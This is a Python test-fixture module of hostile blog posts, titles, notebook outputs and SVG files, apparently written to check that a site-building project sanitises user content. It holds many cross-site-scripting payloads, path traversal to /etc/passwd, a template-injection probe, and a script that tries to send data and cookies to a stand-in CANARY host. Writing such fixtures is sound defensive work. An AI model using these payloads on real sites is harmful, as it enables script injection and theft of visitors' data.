"""Hostile posts, written for this project: each must be rejected, or do nothing in a browser.

`CANARY` stands for a server that nobody may ask; a script that runs sets `top.pwned`.
"""

from __future__ import annotations

RUN = "top.pwned=1"
SCRIPTS = [
    f"<script>{RUN}</script>",
    f"<SCRIPT>{RUN}</SCRIPT >",
    f"<script\n>{RUN}</script\n>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"text <script>{RUN}</script> text",
    "<script src=CANARY/a.js></script>",
    "<script src=//127.0.0.1/a.js>",
    f'<script type="module">{RUN}</script>',
    f"</p><script>{RUN}</script>",
    f"</article></main><script>{RUN}</script>",
    f"<!--><script>{RUN}</script>-->",
    f"<!-- --!><script>{RUN}</script> -->",
    f"<![CDATA[<script>{RUN}</script>]]>",
    f"<?xml ?><script>{RUN}</script>",
    f"<noscript><p title='</noscript><script>{RUN}</script>'></noscript>",
    f"<textarea><script>{RUN}</script></textarea>",
    f"<title><script>{RUN}</script></title>",
    f"<style><script>{RUN}</script></style>",
    f"<template><script>{RUN}</script></template>",
    f"<plaintext><script>{RUN}</script>",
    f"<xmp><script>{RUN}</script></xmp>",
]
HANDLERS = [
    f"<img src=x onerror={RUN}>",
    f'<img src="x" onerror="{RUN}" alt="a">',
    f"<img/src=x/onerror={RUN}>",
    f'<img """><script>{RUN}</script>">',
    f"<details open ontoggle={RUN}><summary>a</summary>b</details>",
    f"<b onmouseover={RUN} onfocus={RUN} tabindex=0 autofocus>x</b>",
    f"<div onanimationstart={RUN} style='animation-name:x'>x</div>",
    f"<body onload={RUN}>",
    f"<video src=x onerror={RUN}></video>",
    f"<audio src=x onerror={RUN}>",
    f"<marquee onstart={RUN}>x</marquee>",
    f"<input autofocus onfocus={RUN}>",
    f"<select autofocus onfocus={RUN}></select>",
    f"<a href='#' onclick={RUN}>x</a>",
    f"<x contenteditable onblur={RUN}>x</x>",
    f"<abbr title='\"><img src=x onerror={RUN}>'>x</abbr>",
    f'<img alt="`><img src=x onerror={RUN}>" src="x">',
]
ADDRESSES = [
    f"[x](javascript:{RUN})",
    f"[x](JaVaScRiPt:{RUN})",
    f"[x](java\tscript:{RUN})",
    f"[x](&#106;avascript:{RUN})",
    f"[x](&#x6A;avascript&colon;{RUN})",
    f"[x](<javascript:{RUN}>)",
    f"[x](\x01javascript:{RUN})",
    f"[x](vbscript:{RUN})",
    f"[x](data:text/html,<script>{RUN}</script>)",
    "[x](data:text/html;base64,PHNjcmlwdD50b3AucHduZWQ9MTwvc2NyaXB0Pg==)",
    f"[x][a]\n\n[a]: javascript:{RUN}",
    f"<javascript:{RUN}>",
    f"<a href=javascript:{RUN}>x</a>",
    f'<a href=" &#14; javascript:{RUN}">x</a>',
    f'<a href="jav&#x09;ascript:{RUN}">x</a>',
    f"![x](javascript:{RUN})",
    "![x](data:image/svg+xml,<svg/onload=alert(1)>)",
    "![x](CANARY/a.png)",
    "![x](//127.0.0.1/a.png)",
    "![x](file:///etc/passwd)",
    "![x](../../../etc/passwd)",
    '<img src="CANARY/a.png" alt="x">',
    '<img src="dot.svg" srcset="CANARY/a.png 2x" alt="x">',
    "<img src=dot.svg lowsrc=CANARY/a.png dynsrc=CANARY/b alt=x>",
    f'[x](https://example.org/"onmouseover="{RUN})',
    f"[x](https://example.org '\"><script>{RUN}</script>')",
    "[x](blob:CANARY/x)",
]
FRAMES = [
    "<iframe src=CANARY></iframe>",
    f"<iframe src=javascript:{RUN}></iframe>",
    f"<iframe srcdoc='<script>{RUN}</script>'></iframe>",
    "<object data=CANARY></object>",
    "<embed src=CANARY>",
    "<frameset><frame src=CANARY></frameset>",
    "<portal src=CANARY></portal>",
    "<link rel=stylesheet href=CANARY/a.css>",
    "<link rel=prefetch href=CANARY/a>",
    "<link rel=dns-prefetch href=CANARY>",
    "<meta http-equiv=refresh content='0;url=CANARY'>",
    '<meta http-equiv=Content-Security-Policy content="script-src *">',
    "<base href=CANARY/>",
    "<form action=CANARY><button>Log in</button></form>",
    "<form id=f></form><button form=f formaction=CANARY>x</button>",
    "<input type=image src=CANARY/a.png formaction=CANARY>",
    "<isindex action=CANARY>",
    "<table background=CANARY/a.png><tr><td background=CANARY/b.png>x</td></tr></table>",
    "<div style='background:url(CANARY/a.png)'>x</div>",
    "<style>@import 'CANARY/a.css'; *{background:url(CANARY/b)}</style>",
    "<video poster=CANARY/a.png src=CANARY/b></video>",
    "<picture><source srcset=CANARY/a><img src=CANARY/b alt=x></picture>",
    "<track src=CANARY>",
    "<a href='https://example.org' ping=CANARY>x</a>",
    "<q cite=CANARY>x</q><blockquote cite=CANARY>y</blockquote>",
    "<dialog open><form method=dialog><button>Close</button></form></dialog>",
    "<div popover id=p>x</div><button popovertarget=p>x</button>",
]
DRAWINGS = [
    f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><a xlink:href=javascript:{RUN}><text y=20>x</text></a></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s></svg>",
    "<svg><foreignObject><iframe src=CANARY></iframe></foreignObject></svg>",
    "<svg><use href='CANARY/a.svg#x'/></svg>",
    "<svg><image href=CANARY/a.png></svg>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}></style></mglyph></table></mtext></math>",
    f"<math href=javascript:{RUN}>x</math>",
    f'<svg></p><style><a id="</style><img src=1 onerror={RUN}>">',
    f"<form><math><mtext></form><form><mglyph><svg><mtext><style><path id='</style><img onerror={RUN} src>'>",
]
MARKS = [
    f"`<script>{RUN}</script>`",
    f"```html\n<script>{RUN}</script>\n```",
    f"```<script>{RUN}</script>\ncode\n```",
    f'```python"><script>{RUN}</script>\nx\n```',
    f"# <img src=x onerror={RUN}>",
    f'## x {{#a"><script>{RUN}</script>}}',
    f"## x {{onclick={RUN}}}",
    f"x[^1]\n\n[^1]: <img src=x onerror={RUN}>",
    f'[^"><script>{RUN}</script>]: y\n\nx[^"><script>{RUN}</script>]',
    f"| a |\n|---|\n| <img src=x onerror={RUN}> |",
    f"> [!NOTE]\n> <script>{RUN}</script>",
    f'!!! note "<img src=x onerror={RUN}>"\n    x',
    f'::: {{.callout-note title="<script>{RUN}</script>"}}\nx\n:::',
    f"Term\n: <svg onload={RUN}>",
    f'![x](dot.svg "<img src=x onerror={RUN}>")',
    f'!["><script>{RUN}</script>](dot.svg)',
    f"$\\href{{javascript:{RUN}}}{{x}}$",
    f"$\\html{{<img src=x onerror={RUN}>}}$",
    f"$\\text{{<script>{RUN}</script>}}$",
    "$\\includegraphics{CANARY/a.png}$",
    f'$\\class{{" onclick={RUN}}}{{x}}$',
    "$\\style{background:url(CANARY)}{x}$",
    f"$$\n\\text{{</annotation></semantics></math><script>{RUN}</script>}}\n$$",
    f"\ufdd00\ufdd1<script>{RUN}</script>",
    f"https://example.org/<script>{RUN}</script>",
    f'www.example.org/"onmouseover={RUN}',
    f"\x00<script>{RUN}</script>",
    f"<scr\x00ipt>{RUN}</scr\x00ipt>",
    f"\uff1cscript\uff1e{RUN}\uff1c/script\uff1e",
    f"+ADw-script+AD4-{RUN}+ADw-/script+AD4-",
]
BODIES = [*SCRIPTS, *HANDLERS, *ADDRESSES, *FRAMES, *DRAWINGS, *MARKS]

TITLES = [f"<script>{RUN}</script>", f'"><img src=x onerror={RUN}>', f"</title><script>{RUN}</script>", "{{ 7*7 }}"]
"""Of posts; also their summaries, tags and series."""

OUTPUTS: list[tuple[str, str]] = [
    ("text/html", f"<script>{RUN}</script>"),
    ("text/html", f"<img src=x onerror={RUN}>"),
    ("text/html", f"<table><tr><td onclick={RUN}>1</td></tr></table>"),
    ("text/html", "<iframe src=CANARY></iframe>"),
    ("text/html", f"<a href=javascript:{RUN}>x</a>"),
    ("text/html", "<form action=CANARY><input name=password></form>"),
    ("text/html", "<img src=CANARY/a.png>"),
    ("text/html", "<style>*{background:url(CANARY)}</style><table><tr><td>1</td></tr></table>"),
    ("text/markdown", f"<script>{RUN}</script>"),
    ("text/markdown", f"[x](javascript:{RUN})"),
    ("text/latex", f"$\\href{{javascript:{RUN}}}{{x}}$"),
    ("text/plain", f"<script>{RUN}</script>"),
    ("image/svg+xml", f"<svg xmlns='http://www.w3.org/2000/svg' viewBox='0 0 9 9' onload='{RUN}'/>"),
    ("image/svg+xml", f"<svg xmlns='http://www.w3.org/2000/svg' viewBox='0 0 9 9'><script>{RUN}</script></svg>"),
    ("image/svg+xml", "<svg xmlns='http://www.w3.org/2000/svg' viewBox='0 0 9 9'><image href='CANARY/a.png'/></svg>"),
    ("application/javascript", RUN),
]
"""Of a notebook's cell: a kind and what it holds."""

DRAWING = (
    "<svg xmlns='http://www.w3.org/2000/svg' viewBox='0 0 40 20' onload='top.pwned=1'><script>top.pwned=1</script>"
    "<image href='CANARY/a.png' width='9' height='9'/><style>@import url(CANARY/a.css);</style>"
    "<foreignObject width='9' height='9'>"
    "<iframe xmlns='http://www.w3.org/1999/xhtml' src='CANARY'/></foreignObject></svg>"
)
"""A file beside a post, shown as a picture and opened by its address."""

FIGURE = """<!doctype html><title>x</title><form id=f method=post action=CANARY/form></form><script>
window.pwned = 1;
const tries = [
  () => fetch("CANARY/fetch", { mode: "no-cors" }), () => { new Image().src = "CANARY/image"; },
  () => navigator.sendBeacon("CANARY/beacon"), () => new WebSocket("CANARY/socket".replace("http", "ws")),
  () => new EventSource("CANARY/events"), () => import("CANARY/import.js"), () => open("CANARY/popup"),
  () => document.getElementById("f").submit(), () => alert(1), () => localStorage.setItem("a", "1"),
  () => { document.cookie = "a=1"; if (document.cookie) new Image().src = "CANARY/cookie"; },
];
for (const one of tries) { try { one()?.catch?.(() => 0); } catch { } }
</script>"""
"""An interactive figure that tries every way out."""
